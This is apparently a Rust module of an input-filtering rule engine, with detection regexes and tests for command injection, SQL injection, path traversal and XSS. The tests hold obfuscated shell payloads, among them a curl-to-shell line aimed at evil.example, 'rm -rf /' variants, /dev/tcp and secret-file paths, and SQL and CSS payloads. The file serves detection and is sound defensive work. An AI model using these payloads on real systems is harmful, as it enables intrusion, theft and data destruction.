//! Supplementary patterns of the built-in rule sets: forms the anchored, triggered
//! patterns of [`crate::rules`] do not start at their trigger bytes, searched apart.
//!
//! - [`SHELL_PATTERNS`] are searched, with every command injection pattern, on the shell
//!   view of a value ([`crate::shell::shell_view`]) only.
//! - The others are searched on the value and its normalized view, only when one of the
//!   category's prefilter literals (ASCII case ignored) occurs in it.

use crate::rules::Category;

/// Command injection forms searched on the shell view: a backtick substitution of any
/// word as the whole value or after a separator (`` `w` ``, ``a;`pwd` ``), the shell
/// itself through `$0` / `$SHELL` / `$BASH` after a separator or at the start, and a here
/// string or here document fed to a command (`cat<<<x`).
pub(crate) const SHELL_PATTERNS: &[&str] = &[
    r"^\s*`[^`]+`\s*$",
    r"(?:[;&|(\n]|\$\()\s*`[^`]+`",
    r"(?:^|[;&|`(\n]|\$\()\s*\$\{?(?:0|shell|bash)\b",
    concat!(
        r"(?:^|[;&|`(\n]|\$\()\s*(?:(?:/usr)?/s?bin/)?(?:",
        "rm|curl|wget|nc|ncat|netcat|bash|sh|zsh|dash|ksh|csh|tcsh|python[0-9.]*|perl|ruby|php|node|cat|base64|xxd|awk|sed|xargs|tee|openssl",
        r")\s*<<"
    ),
];

/// The supplementary patterns of a category (ASCII, case-insensitive) and the literals
/// one of which a value must hold for them to be searched.
pub(crate) fn patterns(c: Category) -> (&'static [&'static str], &'static [&'static str]) {
    match c {
        Category::SqlInjection => (
            &[
                // A numeric tautology without a quote after a number, a parenthesis or
                // at the start: `1 OR 1=1`, `id=5) and 2 = 2`, `or 1=1`. (Not after a
                // word: `people write OR 1=1 in examples`.)
                r"(?:^|[0-9)])\s*(?:or|and)\s+\d+\s*=\s*\d+\b",
                // UNION SELECT without a quote: `1 union all select null`.
                r"\bunion(?:\s|/\*.*?\*/)+(?:all(?:\s|/\*.*?\*/)+)?select\b",
                // Error-based probes.
                r"\b(?:extractvalue|updatexml)\s*\(",
                // A LIKE wildcard after a closing quote: `x' LIKE '%`.
                r#"['"]\s*like\s+['"]%"#,
            ],
            &["=", "union", "extractvalue", "updatexml", "like"],
        ),
        Category::PathTraversal => (
            &[
                // UNC and device paths: `\\host\share`, `\\?\C:\`, `\\.\pipe\`.
                r"\\\\(?:[?.]\\|[a-z0-9._$-]+\\)",
                // Container and orchestrator secrets.
                r"(?:^|[/\\])(?:var[/\\])?run[/\\]secrets[/\\]",
                // Bash network pseudo-devices.
                r"(?:^|[/\\])dev[/\\](?:tcp|udp)[/\\]",
                // Kernel interfaces under /sys.
                r"(?:^|[/\\])sys[/\\](?:class|kernel|firmware|devices|fs|bus|module)\b",
            ],
            &["\\\\", "secrets", "dev", "sys"],
        ),
        Category::Xss => (
            &[
                r"<\s*/?\s*style\b",
                // CSS expressions (old IE): `width: expression(...)`, `expression(alert(1))`.
                r"(?::\s*expression\s*\(|\bexpression\()",
            ],
            &["style", "expression"],
        ),
        Category::CommandInjection => (&[], &[]),
    }
}

#[cfg(test)]
mod tests {
    use crate::rules::{
        BlockedPattern, BuiltinRules, Category, RuleAction, RuleEngine, ScanResult,
        matches_category,
    };

    fn engine(blocked: &[&str]) -> RuleEngine {
        let blocked: Vec<BlockedPattern> = blocked
            .iter()
            .map(|b| BlockedPattern::Literal((*b).to_owned()))
            .collect();
        RuleEngine::new(&BuiltinRules::default(), &blocked, RuleAction::Reject).unwrap()
    }

    fn rejected_by(e: &RuleEngine, s: &str) -> Option<String> {
        match e.scan_value(s, None).result {
            ScanResult::Reject(r) => Some(e.rules[r].name.to_string()),
            _ => None,
        }
    }

    /// The shell syntax the outside review used to pass the command rule (F7).
    #[test]
    fn shell_quoting_does_not_hide_a_command() {
        let e = engine(&[]);
        for s in [
            "x;c''url -s evil.example|s''h",
            "a;\"id\"",
            "a;'id'",
            "a;\\id",
            "a;i''d",
            "a;i\"\"d",
            "a;(id)",
            "a;id#",
            "a;id # note",
            "a;{id,}",
            "a;$'id'",
            "a;!id",
            "a;$0",
            "a;`id`",
            "a|\"sh\"",
            "a|s''h",
            "a\n\"id\"",
            "a\nw''hoami",
            "`id`",
            "`env`",
            "`pwd`",
            "`w`",
            "$'\\x72m' -rf /",
            "cat<<<x",
            "x;{rm,-rf,~}",
            "x; r''m -rf /",
            // Through the normalized view too: fullwidth quotes, entities.
            "a;&#39;id&#39;",
            "a;%27id%27",
        ] {
            assert_eq!(
                rejected_by(&e, s).as_deref(),
                Some("command_injection"),
                "{s:?}"
            );
        }
    }

    #[test]
    fn blocked_literals_see_the_shell_view() {
        let e = engine(&["rm -rf"]);
        for s in [
            "r''m -rf /",
            "r\\m -r\\f /",
            "rm -fr x",
            "rm -r -f x",
            "rm -Rf x",
            "rm --recursive --force x",
            "\"rm\" -rf x",
        ] {
            assert!(rejected_by(&e, s).is_some(), "{s:?}");
        }
        for s in ["rm -r x", "rm -f x", "rm x"] {
            assert!(rejected_by(&e, s).is_none(), "{s:?}");
        }
    }

    #[test]
    fn supplementary_patterns() {
        for (c, s) in [
            (Category::PathTraversal, "\\\\server\\share\\x"),
            (Category::PathTraversal, "\\\\?\\C:\\x"),
            (
                Category::PathTraversal,
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
            ),
            (Category::PathTraversal, "/run/secrets/db_password"),
            (Category::PathTraversal, "/dev/tcp/1.2.3.4/80"),
            (Category::PathTraversal, "/sys/class/net"),
            (Category::Xss, "<style>@import \"x\"</style>"),
            (Category::Xss, "expression(alert(1))"),
            (Category::Xss, "width: expression (alert(1))"),
            (Category::SqlInjection, "1 OR 1=1"),
            (Category::SqlInjection, "5 and 2 = 2"),
            (Category::SqlInjection, "1 union all select null"),
            (Category::SqlInjection, "1 UNION/**/SELECT 1"),
            (
                Category::SqlInjection,
                "1' AND extractvalue(1,concat(0x7e,version()))--",
            ),
            (Category::SqlInjection, "x' LIKE '%"),
        ] {
            assert!(matches_category(c, s), "{c:?} {s:?}");
        }
        for (c, s) in [
            (Category::SqlInjection, "this or that = fine"),
            (Category::SqlInjection, "the union of two sets"),
            (Category::PathTraversal, "the dev team and the sys admins"),
            (Category::Xss, "a regular expression matches"),
            (Category::Xss, "style guide"),
            (Category::CommandInjection, "use the `config.yaml` file"),
            (
                Category::CommandInjection,
                "it's a dog's life; they're fine",
            ),
            (Category::CommandInjection, "rock & roll (live)"),
            (
                Category::CommandInjection,
                "data:image/png;base64,iVBORw0KGgo=",
            ),
        ] {
            assert!(!matches_category(c, s), "{c:?} {s:?}");
        }
    }

    /// An exemption of the command rule covers the shell view's matches too.
    #[test]
    fn exemptions_cover_the_views() {
        let e = engine(&[]);
        let mut set = crate::rules::RuleSet::default();
        set.insert(e.index_of("command_injection").unwrap());
        assert!(matches!(
            e.scan_value("a;'id'", Some(&set)).result,
            ScanResult::Clean
        ));
    }
}
